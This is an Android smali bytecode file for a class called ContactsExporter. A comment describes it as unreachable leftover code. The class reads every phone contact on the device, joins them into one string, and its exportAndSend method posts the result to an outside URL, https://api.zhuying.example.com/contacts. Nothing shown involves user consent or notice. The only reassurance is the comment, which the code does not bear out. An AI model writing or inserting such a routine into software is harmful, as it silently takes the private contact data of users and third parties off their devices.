# SPDX-License-Identifier: Apache-2.0
# Left over from an older release: nothing calls it, no component can reach it.
.class public final Lcom/example/zhuying/legacy/ContactsExporter;
.super Ljava/lang/Object;
.source "ContactsExporter.java"

.method public static export(Landroid/content/ContentResolver;)Ljava/lang/String;
    .locals 6
    sget-object v1, Landroid/provider/ContactsContract$CommonDataKinds$Phone;->CONTENT_URI:Landroid/net/Uri;
    const/4 v2, 0x0
    const/4 v3, 0x0
    const/4 v4, 0x0
    const/4 v5, 0x0
    move-object v0, p0
    invoke-virtual/range {v0 .. v5}, Landroid/content/ContentResolver;->query(Landroid/net/Uri;[Ljava/lang/String;Ljava/lang/String;[Ljava/lang/String;Ljava/lang/String;)Landroid/database/Cursor;
    move-result-object v0
    new-instance v1, Ljava/lang/StringBuilder;
    invoke-direct {v1}, Ljava/lang/StringBuilder;-><init>()V
    if-eqz v0, :done
    :next
    invoke-interface {v0}, Landroid/database/Cursor;->moveToNext()Z
    move-result v2
    if-eqz v2, :close
    invoke-interface {v0, v3}, Landroid/database/Cursor;->getString(I)Ljava/lang/String;
    move-result-object v2
    invoke-virtual {v1, v2}, Ljava/lang/StringBuilder;->append(Ljava/lang/String;)Ljava/lang/StringBuilder;
    goto :next
    :close
    invoke-interface {v0}, Landroid/database/Cursor;->close()V
    :done
    invoke-virtual {v1}, Ljava/lang/StringBuilder;->toString()Ljava/lang/String;
    move-result-object v0
    return-object v0
.end method

.method public static exportAndSend(Landroid/content/ContentResolver;)V
    .locals 2
    invoke-static {p0}, Lcom/example/zhuying/legacy/ContactsExporter;->export(Landroid/content/ContentResolver;)Ljava/lang/String;
    move-result-object v1
    const-string v0, "https://api.zhuying.example.com/contacts"
    invoke-static {v0, v1}, Lcom/example/zhuying/HttpPoster;->post(Ljava/lang/String;Ljava/lang/String;)V
    return-void
.end method
